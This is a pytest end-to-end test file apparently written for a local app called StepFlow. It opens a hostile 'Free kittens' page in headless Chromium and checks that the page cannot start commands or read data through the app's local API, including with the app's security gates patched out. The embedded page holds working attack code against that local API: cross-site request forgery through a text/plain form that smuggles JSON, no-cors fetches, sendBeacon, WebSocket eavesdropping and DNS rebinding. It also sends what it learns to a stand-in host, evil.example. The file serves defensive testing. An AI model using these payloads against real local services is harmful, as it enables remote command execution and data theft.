"""A real browser visits web pages while StepFlow runs. From a hostile one no command starts, no socket opens and
nothing is read; one that the settings name does all of it, with the token.

The same hostile page is then opened beside a server whose gates are taken out (by this test; there is no such
setting), where its attacks succeed: an attack that could not work would prove nothing.
"""

from __future__ import annotations

import contextlib
import http.client
import http.server
import os
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.harness import Server
from tests.waiting import wait_until

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

pytestmark = [
    pytest.mark.timeout(180),
    pytest.mark.skipif(BROWSER is None, reason="Chromium is not installed (chromium, chromium-browser, google-chrome)"),
]

WITHOUT_GATES = """
import sys
from stepflow_desktop.api import guard, middleware
guard.Guard.check = lambda self, asked: None
middleware.check_form = lambda *given, **named: None
from stepflow_desktop.__main__ import main
sys.exit(main(sys.argv[1:]))
"""

# What each attack leaves behind where it succeeds: an execution of its name, or words of StepFlow in foreign hands.
STARTS = {"form", "beacon", "no-cors", "sandboxed", "rebound"}
HEARS = {"websocket", "sandboxed websocket", "rebound"}
# The browser may know better than to ask 0.0.0.0 at all.
STARTS_PERHAPS = {"wildcard"}

PAGE = """<!doctype html><meta charset="utf-8"><title>Free kittens</title>
<body><iframe name="hidden" hidden></iframe><script>
const REST = ":REST/api/executions";
const order = name => JSON.stringify({name, command: "true"});
const tell = (name, text) => fetch("EVIL/told/" + name, {method: "POST", mode: "no-cors", body: text || "-"});
const start = (url, name) => fetch(url, {method: "POST", mode: "no-cors", body: order(name)}).catch(() => {});
const listen = name => new Promise(resolve => {
  const socket = new WebSocket("ws://localhost:HUB");
  socket.onmessage = message => tell(name, message.data).then(resolve);
  socket.onclose = socket.onerror = resolve;
});
if (origin === "null") {
  Promise.all([start("http://localhost" + REST, "sandboxed"), listen("sandboxed websocket")])
    .then(() => parent.postMessage("done", "*"));
} else {
  const form = () => new Promise(resolve => {
    // A text/plain form sends name=value; with the sign in the right place that is JSON.
    const form = document.createElement("form"), field = document.createElement("input");
    Object.assign(form, {method: "post", enctype: "text/plain", target: "hidden", action: "http://localhost" + REST});
    Object.assign(field, {name: '{"name":"form","command":"true","metadata":{"a":"', value: '"}}'});
    form.append(field);
    document.body.append(form);
    document.querySelector("iframe").onload = resolve;
    form.submit();
  });
  const sandboxed = () => new Promise(resolve => {
    const frame = document.createElement("iframe");
    Object.assign(frame, {sandbox: "allow-scripts", src: "/"});
    addEventListener("message", resolve);
    document.body.append(frame);
  });
  // The name of this page now leads to StepFlow: to the browser that is the page's own server.
  const rebound = async () => {
    const headers = {"Content-Type": "application/json"};
    const answer = await fetch("/api/executions");
    if (answer.ok) await tell("rebound", await answer.text());
    await fetch("/api/executions", {method: "POST", headers, body: order("rebound")});
  };
  const beacon = () => navigator.sendBeacon("http://localhost" + REST, new Blob([order("beacon")]));
  beacon();
  Promise.allSettled([
    form(), start("http://localhost" + REST, "no-cors"), start("http://0.0.0.0" + REST, "wildcard"),
    listen("websocket"), sandboxed(), rebound(),
  ]).then(() => tell("done"));
}
</script>"""


FRIENDLY_PAGE = """<!doctype html><meta charset="utf-8"><title>Dashboard</title><script>
const tell = (name, text) => fetch("/told/" + name, {method: "POST", body: text || "-"});
const url = "http://localhost:REST/api/executions", token = "TOKEN";
const headers = {"Authorization": "Bearer " + token, "Content-Type": "application/json"};
const socket = new WebSocket("ws://localhost:HUB", ["stepflow.v1", "stepflow.token." + token]);
const greeted = new Promise((resolve, reject) => { socket.onmessage = resolve; socket.onclose = reject; });
(async () => {
  await greeted;
  await tell("protocol", socket.protocol);
  const made = await fetch(url, {method: "POST", headers, body: JSON.stringify({name: "friendly", command: "true"})});
  await tell("made", String(made.status));
  await tell("listed", await (await fetch(url, {headers})).text());
  const refused = await fetch(url);
  await tell("refused", refused.status + " " + (await refused.json()).error);
})().catch(error => tell("problem", String(error))).then(() => tell("done"));
</script>"""


class Site:
    """Serves a page and hears what it found out; what it is asked of ``/api`` it hands on, as rebound DNS does."""

    def __init__(self) -> None:
        site = self
        self.page = b""
        self.rest_port = 0
        self.heard: dict[str, str] = {}

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path.startswith("/api/"):
                    self._hand_on(b"")
                elif self.path == "/":
                    self._answer(200, "text/html", site.page)
                else:
                    self._answer(404, "text/plain", b"")

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                if self.path.startswith("/api/"):
                    self._hand_on(body)
                else:
                    name = self.path.removeprefix("/told/").replace("%20", " ")
                    site.heard[name] = body.decode()
                    self._answer(200, "text/plain", b"")

            def _hand_on(self, body: bytes) -> None:
                connection = http.client.HTTPConnection("127.0.0.1", site.rest_port, timeout=20)
                connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
                for name, value in self.headers.items():
                    if name.lower() != "connection":
                        connection.putheader(name, value)
                connection.putheader("Connection", "close")
                connection.endheaders(body)
                answer = connection.getresponse()
                self._answer(answer.status, answer.headers["Content-Type"], answer.read())
                connection.close()

            def _answer(self, status: int, media: str, body: bytes) -> None:
                self.send_response(status)
                self.send_header("Content-Type", media)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://evil.example:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever, name="site")
        self._thread.start()

    def open(self, server: Server, page: str, token: str = "") -> None:
        """Put up a page about this server."""
        self.rest_port = int(server.address.rpartition(":")[2])
        names = {":REST": f":{self.rest_port}", ":HUB": f":{server.websocket_port()}", "EVIL": self.url, "TOKEN": token}
        for name, value in names.items():
            page = page.replace(name, value)
        self.page = page.encode()

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture
def site() -> Iterator[Site]:
    site = Site()
    yield site
    site.close()


def visit(site: Site, profile: Path) -> None:
    """Open the page in a browser until it is done."""
    assert BROWSER is not None
    browser = subprocess.Popen(
        [
            *(BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
            *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
            *("--disable-dev-shm-usage", f"--user-data-dir={profile}", "--remote-debugging-port=0"),
            *("--host-resolver-rules=MAP evil.example 127.0.0.1", site.url + "/"),
        ],
        env={**os.environ, "HOME": str(profile)},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        wait_until(lambda: "done" in site.heard, "the end of the page")
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()


@contextlib.contextmanager
def running(server: Server) -> Iterator[Server]:
    try:
        server.start()
        yield server
    finally:
        assert server.stop() == 0, server.own_log()


def started(server: Server) -> set[str]:
    """The names of all executions."""
    return {item["name"] for item in server.get("/executions")["executions"]}


def test_a_hostile_page_achieves_nothing(server: Server, site: Site, tmp_path: Path) -> None:
    site.open(server, PAGE)
    visit(site, tmp_path / "profile")
    assert started(server) == set()
    assert set(site.heard) == {"done"}


def test_without_the_gates_the_same_page_runs_commands_and_listens(site: Site, tmp_path: Path) -> None:
    with running(Server(tmp_path / "storage", program=("-c", WITHOUT_GATES))) as server:
        site.open(server, PAGE)
        visit(site, tmp_path / "profile")
        assert started(server) - STARTS_PERHAPS == STARTS
    assert set(site.heard) == HEARS | {"done"}
    assert all('"type":' in site.heard[name] for name in HEARS - {"rebound"})
    assert "executions" in site.heard["rebound"]


def test_a_page_that_the_settings_name_works_with_the_token(site: Site, tmp_path: Path) -> None:
    token = "a-token-for-the-dashboard"
    environ = {"STEPFLOW_AUTH_ENABLED": "true", "STEPFLOW_TOKEN": token, "STEPFLOW_ALLOWED_ORIGINS": site.url}
    with running(Server(tmp_path / "storage", environ=environ)) as server:
        site.open(server, FRIENDLY_PAGE, token)
        visit(site, tmp_path / "profile")
    assert "problem" not in site.heard, site.heard
    assert site.heard["protocol"] == "stepflow.v1"
    assert site.heard["made"] == "201"
    assert '"friendly"' in site.heard["listed"]
    assert site.heard["refused"].startswith("401 Send the token")
